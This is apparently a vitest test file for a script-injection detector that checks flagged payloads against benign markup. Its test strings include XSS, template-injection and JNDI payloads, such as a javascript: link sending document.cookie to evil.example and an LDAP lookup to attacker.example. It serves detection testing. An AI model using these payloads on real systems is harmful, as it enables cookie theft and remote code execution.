import { describe, expect, it } from 'vitest';
import { normalize } from '../../normalize/index.ts';
import { scriptInjectionDetector } from './script-injection.ts';
import { DEFAULT_CONTEXT } from '../../test-support.ts';

function confidence(text: string): number {
  return Math.max(
    0,
    ...scriptInjectionDetector.detect(normalize(text), DEFAULT_CONTEXT).map((finding) => finding.confidence),
  );
}

describe('scriptInjectionDetector', () => {
  it.each([
    '<script>alert(1)</script>',
    '<IMG SRC=x onerror=alert(document.cookie)>',
    '<a href="javascript:fetch(`//evil.example/?c=`+document.cookie)">win a prize</a>',
    '<iframe srcdoc="<p>hi</p>"></iframe>',
    '<svg/onload=alert(1)>',
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    '{{constructor.constructor("return process")()}}',
    '${jndi:ldap://attacker.example/a}',
  ])('%s', (text) => {
    expect(confidence(text)).toBeGreaterThanOrEqual(0.7);
  });

  it.each([
    'How do I use map() in JavaScript: the basics?',
    'Make this <b>bold</b> and this <i>italic</i>.',
    'In Jinja you write {{ user.name }} to print a variable.',
    'The price is 5 < 7 and 9 > 3.',
    'Add a button with <button onclick="save()">Save</button> to the form.',
  ])('leaves alone: %s', (text) => {
    expect(confidence(text)).toBeLessThan(0.7);
  });

  it('reports offsets of the markup', () => {
    const text = 'Nice post! <script src="//x.example/a.js"></script>';
    const [finding] = scriptInjectionDetector.detect(normalize(text), DEFAULT_CONTEXT);
    expect(finding?.type).toBe('SCRIPT_INJECTION');
    expect(finding?.start).toBe(text.indexOf('<script'));
  });

  it('tries a signal that starts at its key wherever that key starts, and only there', () => {
    const probe = 'Merci, la réservation est confirmée. Then alert(1) ran and CONFIRM(document.domain) too.';
    expect(confidence(probe)).toBeGreaterThanOrEqual(0.4);
    expect(confidence('Merci, la réservation est confirmée; please confirm (by mail) tomorrow.')).toBe(0);
    const many = `${'Please confirm. '.repeat(400)}alert(1)`;
    expect(confidence(many)).toBeGreaterThanOrEqual(0.4);
  });

  it('looks for handlers that fire by themselves only in markup with a handler', () => {
    expect(confidence('<img src=x onerror=alert(1)>')).toBeGreaterThanOrEqual(0.7);
    expect(confidence('The onerror= attribute and onload= are events.')).toBe(0);
  });
});
